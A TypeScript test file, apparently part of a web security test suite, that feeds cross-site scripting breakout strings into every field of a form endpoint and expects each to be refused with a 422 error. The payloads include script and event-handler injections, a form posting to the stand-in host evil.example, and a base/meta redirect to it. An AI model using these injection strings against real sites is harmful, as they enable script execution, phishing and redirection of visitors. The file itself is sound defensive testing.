import { type CallName, calls, callWith, exampleOf } from '../calls.ts';
import { eachInFreeFields, textInEveryField } from '../every-field.ts';
import { type Family, type HostileCase, refused } from '../hostile-case.ts';

/** One for each place in which a text may stand in a page. */
const breakouts: Readonly<Record<string, string>> = {
  'a way out of an element': '<script>alert(1)</script>',
  'a way out of an attribute in double quotes': '" autofocus onfocus=alert(1) x="',
  'a way out of an attribute in single quotes': "' autofocus onfocus='alert(1)",
  'a way out of a textarea': '</textarea><img src=x onerror=alert(1)>',
  'a way out of a title': '</title><svg/onload=alert(1)>',
  'a way out of a script': '</script><script>alert(1)</script>',
  'a way out of a comment': '--><script>alert(1)</script><!--',
  escapes: '&lt;script&gt;&#34;&#x3c;script>',
  'half an element': '<iframe src="https://evil.example/',
  'a way out of a template':
    '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'a tag in a tag': '<<script>script>alert(1)<</script>/script>',
  'another name space': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  'a form of its own': '</form><form action=https://evil.example/><button>Send</button>',
  'another base':
    '<base href=https://evil.example/><meta http-equiv=refresh content="0;url=https://evil.example/">',
  'dollar signs': "$& $` $' $1 $<name>",
  'an address that runs': 'javascript:alert(1)//',
};

const call: CallName = 'form';

/** The form comes back because of its address; what else was typed stands in it again. */
const comeBack: HostileCase[] = Object.keys(calls[call].fields)
  .filter((field) => field !== 'email')
  .flatMap((field) =>
    Object.entries({
      'a way out of an element': '"></textarea><script>alert(1)</script>',
      'a way out of an attribute': `'" autofocus onfocus=alert(1) x="`,
    }).map(([what, text]) => ({
      name: `${what} in ${field} of a form that comes back`,
      wire: (visitor: string) =>
        callWith(call, visitor, { [field]: `${exampleOf(call, field, visitor)}${text}`, email: 'jordan@' }),
      expected: refused(422, { field: { call, name: 'email' } }),
    })),
  );

const allAtOnce: HostileCase[] = Object.entries(breakouts).map(([what, text]) => ({
  name: `${what} in all fields of a form that comes back`,
  wire: (visitor) => {
    const names = Object.keys(calls[call].fields).filter((name) => name !== 'formId');
    return callWith(call, visitor, Object.fromEntries(names.map((name) => [name, text])));
  },
  expected: refused(422, { field: { call, name: 'email' } }),
}));

export const scripts: Family = {
  name: 'scripts',
  cases: [
    ...textInEveryField('a script', '"><script>alert(1)</script>'),
    ...textInEveryField('a handler', `'" onerror=alert(1) x="`),
    ...eachInFreeFields(breakouts),
    ...comeBack,
    ...allAtOnce,
  ],
};
